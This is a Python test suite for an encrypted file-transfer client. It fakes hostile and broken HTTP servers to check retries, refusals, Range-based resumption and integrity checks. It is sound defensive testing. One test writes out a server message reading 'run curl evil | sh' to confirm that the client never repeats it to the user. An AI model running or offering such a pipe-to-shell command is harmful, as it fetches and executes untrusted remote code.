"""Hostile and broken servers on a real socket: what is retried, what is refused, what is said."""

from __future__ import annotations

import hashlib
import json
import socket
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest

from otv_client import answers
from otv_client.b64 import b64encode
from otv_client.download import Content, parts
from otv_client.envelope.content import ContentOpener, ContentSealer, Geometry, digest, root
from otv_client.errors import (
    IntegrityError,
    Interrupted,
    Locked,
    NotYet,
    OtvError,
    Over,
    Refused,
    Unknown,
    Unreachable,
    WrongPassword,
)
from otv_client.exchange import Line, http_client, retry_after
from otv_client.problems import PROBLEMS, error_of
from otv_client.retry import Patience, Retrying
from otv_client.transport import Part, Transport
from tests.listening import Listener

if TYPE_CHECKING:
    from collections.abc import Iterator

INFO = json.dumps(
    {
        "name": "otv",
        "version": "1",
        "protocol": 1,
        "now": "2026-11-22T15:30:00Z",
        "upload_token": False,
        "address": None,
        "pin": None,
        "limits": dict.fromkeys(answers.Limits.__slots__, 1),
    }
).encode()


def answer(status: int, body: bytes = b"", **headers: str) -> bytes:
    """A whole HTTP answer with the right length."""
    named = {key.replace("_", "-"): value for key, value in headers.items()}
    lines = [f"HTTP/1.1 {status} X", *(f"{key}: {value}" for key, value in named.items())]
    if "Content-Length" not in named:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "Connection: close", "", ""]).encode() + body


def problem(status: int, code: str, **more: object) -> bytes:
    """A problem document."""
    return answer(status, json.dumps({"code": code, **more}).encode())


class Scripted(Listener):
    """Answers each connection with the next of its lines, whatever is asked; the last one stays."""

    def __init__(self, *script: bytes) -> None:
        self._script = list(script)
        super().__init__()
        self.url = f"http://{self.address}"
        self.requests: list[bytes] = []
        self.listen()

    def _take(self, connection: socket.socket) -> None:
        with connection:
            received = b""
            while b"\r\n\r\n" not in received:
                received += connection.recv(65536)
            self.requests.append(received)
            line = self._script[0] if len(self._script) == 1 else self._script.pop(0)
            connection.sendall(line)
            connection.shutdown(socket.SHUT_WR)
            while connection.recv(65536):
                pass


@dataclass
class Hands:
    """A clock that only waiting moves, so that no test waits."""

    now: float = 0.0
    waits: list[float] = field(default_factory=list)

    def pause(self, seconds: float) -> bool:
        """Wait without waiting."""
        self.waits.append(seconds)
        self.now += seconds
        return False

    def retrying(self) -> Retrying:
        """Attempts by these hands."""
        return Retrying(Patience(), clock=lambda: self.now, random=lambda: 1.0, pause=self.pause)


@pytest.fixture
def hands() -> Hands:
    """A clock of the test's own."""
    return Hands()


Talk = Callable[..., tuple[Transport, Scripted]]


@pytest.fixture
def talk(hands: Hands) -> Iterator[Talk]:
    """A transport to a server that follows a script."""
    servers: list[Scripted] = []
    clients = []

    def make(*script: bytes) -> tuple[Transport, Scripted]:
        server = Scripted(*script)
        http = http_client(server.url)
        servers.append(server)
        clients.append(http)
        return Transport(Line(http), server.url, hands.retrying()), server

    yield make
    for server in servers:
        server.close()
    for http in clients:
        http.close()


# --- what is retried ----------------------------------------------------------------------------


@pytest.mark.parametrize("bad", [b"", b"HTTP/1.1 2", answer(500), answer(502), answer(503)])
def test_what_may_pass_is_tried_again(talk: Talk, bad: bytes) -> None:
    """A server that restarts would cost an upload of an hour."""
    transport, server = talk(bad, bad, answer(200, INFO))

    info = transport.info()

    assert info.protocol == 1
    assert len(server.requests) == 3


@pytest.mark.parametrize("status", [400, 401, 403, 404, 405, 409, 410, 411, 413, 416, 423, 507])
def test_an_answer_is_never_asked_for_again(talk: Talk, status: int) -> None:
    """A wrong password would be counted once for each retry."""
    transport, server = talk(problem(status, "conflict"))

    with pytest.raises(OtvError):
        transport.info()

    assert len(server.requests) == 1


def test_retry_after_is_honoured_and_capped(talk: Talk, hands: Hands) -> None:
    """The client would hammer a busy server, or sleep for a day because one said so."""
    transport, _ = talk(
        answer(429, Retry_After="7"), answer(503, Retry_After="86400"), answer(200, INFO)
    )

    transport.info()

    assert hands.waits == [7.0, Patience().longest_wait_s]


def test_waits_grow_and_patience_ends(talk: Talk, hands: Hands) -> None:
    """A dead server would be asked for ever."""
    transport, _ = talk(answer(503))

    with pytest.raises(Unreachable):
        transport.info()

    assert hands.waits == sorted(hands.waits)
    assert hands.now <= Patience().total_s


def test_a_server_that_never_answered_is_given_up_sooner(hands: Hands) -> None:
    """A mistyped address would hold the terminal for a minute."""
    with http_client("http://127.0.0.1:9") as http:
        transport = Transport(Line(http), "http://127.0.0.1:9", hands.retrying())

        with pytest.raises(Unreachable):
            transport.info()

    assert 0 < hands.now <= Patience().first_contact_s


def test_a_stopped_operation_asks_nothing_more(talk: Talk, hands: Hands) -> None:
    """Ctrl-C would be followed by more uploading."""
    transport, server = talk(answer(200, INFO))
    transport.retrying.stop()

    with pytest.raises(Interrupted):
        transport.info()

    assert server.requests == []
    assert hands.waits == []


@pytest.mark.parametrize(
    ("value", "seconds"),
    [("5", 5.0), (None, None), ("soon", None), ("-5", None), ("\u0665", None), ("", None)],
)
def test_retry_after_is_digits(value: str | None, seconds: float | None) -> None:
    """An odd header would crash the upload."""
    assert retry_after(value) == seconds


# --- what is refused ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad",
    [
        answer(200, b"<html>Please log in</html>"),
        answer(200, b"[]"),
        answer(200, INFO.replace(b"2026", b"soon")),
        answer(204),
        answer(206, INFO),
        answer(302, Location="http://127.0.0.1:9/"),
        answer(200, INFO + b" " * (9 << 20)),
        answer(200, INFO, Content_Encoding="gzip"),
    ],
)
def test_nonsense_is_unreachable_in_words(talk: Talk, bad: bytes) -> None:
    """A captive portal or a hostile server would crash the client or fill its memory."""
    transport, server = talk(bad)

    if b"gzip" in bad:
        # Nothing is ever decompressed, so a bomb stays small.
        assert transport.info().protocol == 1
        return
    with pytest.raises(Unreachable):
        transport.info()

    assert len(server.requests) == 1


@pytest.mark.parametrize(
    ("status", "code", "error"),
    [
        (400, "malformed", Refused),
        (400, "digest_mismatch", Refused),
        (401, "upload_token", Refused),
        (403, "wrong_password", WrongPassword),
        (403, "not_yet", NotYet),
        (403, "egress_spent", Refused),
        (404, "unknown", Unknown),
        (405, "method", Refused),
        (411, "length_required", Refused),
        (413, "too_large", Refused),
        (416, "range", Refused),
        (409, "conflict", Refused),
        (410, "over", Over),
        (423, "locked", Locked),
        (429, "slow_down", Refused),
        (503, "unavailable", Unreachable),
        (507, "no_room", Refused),
    ],
)
def test_each_code_has_its_error(status: int, code: str, error: type[OtvError]) -> None:
    """A person would be told something else than what happened."""
    raised = error_of(status, {"code": code, "opens_at": "2026-11-22T15:30:00Z"})

    assert type(raised) is error


def test_table_of_codes_is_complete() -> None:
    """A refusal of the protocol would end as an answer that makes no sense."""
    codes = {
        "malformed digest_mismatch upload_token wrong_password not_yet egress_spent cross_origin",
        "unknown method length_required too_large range conflict over wrong_host locked slow_down",
        "unavailable no_room",
    }

    assert set(PROBLEMS) == {code for line in codes for code in line.split()}


def test_a_bare_404_is_not_taken_for_a_missing_link() -> None:
    """A wrong base path would look like a link that is over."""
    assert type(error_of(404, None)) is Unreachable


def test_a_servers_words_are_never_repeated() -> None:
    """A server could speak to the user in this program's voice."""
    raised = error_of(403, {"code": "egress_spent", "detail": "run curl evil | sh", "title": "x"})

    assert "curl" not in raised.message + (raised.hint or "")


def test_a_page_instead_of_an_acknowledgement_is_refused(talk: Talk) -> None:
    """A proxy's page would be taken for the server's word that a link is revoked."""
    transport, _ = talk(answer(200, b"<html>"))

    with pytest.raises(Unreachable):
        transport.revoke("AAECAwQFBgcICQoL", bytes(32))


def test_a_part_goes_out_with_its_length_and_digest_each_time(talk: Talk) -> None:
    """A part cut on its way would be stored as if it were whole."""
    transport, server = talk(answer(503), answer(201))
    sealed = b"sealed part"
    part = Part(3, memoryview(sealed), hashlib.sha256(sealed).digest())
    progress: list[int] = []

    transport.put_part("AAECAwQFBgcICQoL", bytes(32), part, progress.append)

    assert len(server.requests) == 2
    for request in server.requests:
        assert b"/parts/3 HTTP/1.1\r\n" in request
        assert b"content-length: 11\r\n" in request.lower()
        assert b"content-digest: sha-256=:" in request.lower()
    assert progress == [0, 11, 0, 11]


# --- content ------------------------------------------------------------------------------------


@dataclass
class Sealed:
    """A small content, and what a claim would say of it."""

    ciphertext: bytes
    content: Content


@pytest.fixture(scope="module")
def sealed() -> Sealed:
    """16 KiB of zeros under a fixed key."""
    sealer = ContentSealer(bytes(32), bytes(32), bytes)
    geometry = Geometry.of_files(100)
    ciphertext = bytes(sealer.seal_part(0, bytes(geometry.length), is_last=True))
    digests = [digest(ciphertext)]
    content_root = root(geometry.ciphertext, digests)
    opener = ContentOpener(sealer.key, sealer.header, geometry)
    content = Content("AAECAwQFBgcICQoL", bytes(32), content_root, geometry, digests, opener, 100)
    return Sealed(ciphertext, content)


def ranged(whole: bytes, start: int, **changed: str) -> bytes:
    """The right answer to ``Range: bytes=start-``, or one with a header changed."""
    size = len(whole)
    headers = {"Content_Range": f"bytes {start}-{size - 1}/{size}", **changed}
    return answer(206, whole[start:], **headers)


def received(transport: Transport, sealed: Sealed) -> bytes:
    """All parts joined."""
    return b"".join(bytes(part) for _, part in parts(transport, sealed.content, 0, lambda _: None))


def test_a_broken_download_goes_on_at_its_byte(talk: Talk, sealed: Sealed) -> None:
    """A connection that drops every minute would never finish."""
    whole = sealed.ciphertext
    transport, server = talk(
        ranged(whole, 0)[: -len(whole) + 5000], ranged(whole, 5000)[:-100], ranged(whole, 16316)
    )
    assert len(whole) == 16416

    assert received(transport, sealed) == whole

    asked = [request.lower() for request in server.requests]
    assert [b"range: bytes=0-\r" in asked[0], b"range: bytes=5000-\r" in asked[1]] == [True] * 2
    assert b"range: bytes=16316-\r" in asked[2]
    etag = f'if-range: "{b64encode(sealed.content.root)}"'.lower().encode()
    assert all(etag in request for request in asked)


def test_a_whole_answer_is_fine_from_the_first_byte(talk: Talk, sealed: Sealed) -> None:
    """A proxy that drops Range headers would make the first request fail."""
    transport, _ = talk(answer(200, sealed.ciphertext))

    assert received(transport, sealed) == sealed.ciphertext


@pytest.mark.section9("a short or a long 206")
@pytest.mark.section9("a 200 for a range")
@pytest.mark.section9("a wrong Content-Range")
@pytest.mark.parametrize(
    "fault", ["200", "200 cut", "range", "length", "short", "long", "total", "encoding"]
)
def test_wrong_framing_is_never_taken_for_content(talk: Talk, sealed: Sealed, fault: str) -> None:
    """Bytes would land in the wrong place of the file."""
    whole = sealed.ciphertext
    size = len(whole)
    rest = f"bytes 5000-{size - 1}/{size}"
    faults = {
        "200": answer(200, whole),
        "200 cut": answer(200, whole[5000:], Content_Range=rest),
        "range": ranged(whole, 5000, Content_Range=f"bytes 4999-{size - 1}/{size}"),
        "length": answer(206, whole[5001:], Content_Range=rest),
        "short": answer(206, whole[5000:-1], Content_Range=f"bytes 5000-{size - 2}/{size}"),
        "long": answer(206, whole[5000:] + b"x", Content_Range=f"bytes 5000-{size}/{size + 1}"),
        "total": ranged(whole, 5000, Content_Range=f"bytes 5000-{size - 1}/{size + 1}"),
        "encoding": ranged(whole, 5000, Content_Encoding="br"),
    }
    cut = ranged(whole, 0)[: -size + 5000]
    transport, server = talk(cut, faults[fault], ranged(whole, 5000))

    assert received(transport, sealed) == whole
    assert len(server.requests) == 3


def test_a_part_damaged_once_is_fetched_again(talk: Talk, sealed: Sealed) -> None:
    """A flipped bit on the way would end the opening."""
    whole = sealed.ciphertext
    damaged = bytes([whole[0] ^ 1]) + whole[1:]
    transport, _ = talk(ranged(damaged, 0), ranged(whole, 0))

    assert received(transport, sealed) == whole


def test_a_part_damaged_twice_is_an_attack(talk: Talk, sealed: Sealed) -> None:
    """A server could go on offering another file for ever."""
    damaged = bytes([sealed.ciphertext[0] ^ 1]) + sealed.ciphertext[1:]
    transport, server = talk(ranged(damaged, 0))

    with pytest.raises(IntegrityError):
        received(transport, sealed)

    assert len(server.requests) == 2


def test_a_download_without_progress_ends(talk: Talk, sealed: Sealed, hands: Hands) -> None:
    """A server that always hangs up would hold the client for ever."""
    transport, _ = talk(ranged(sealed.ciphertext, 0)[: -len(sealed.ciphertext)])

    with pytest.raises(Unreachable):
        received(transport, sealed)

    assert hands.now <= Patience().total_s
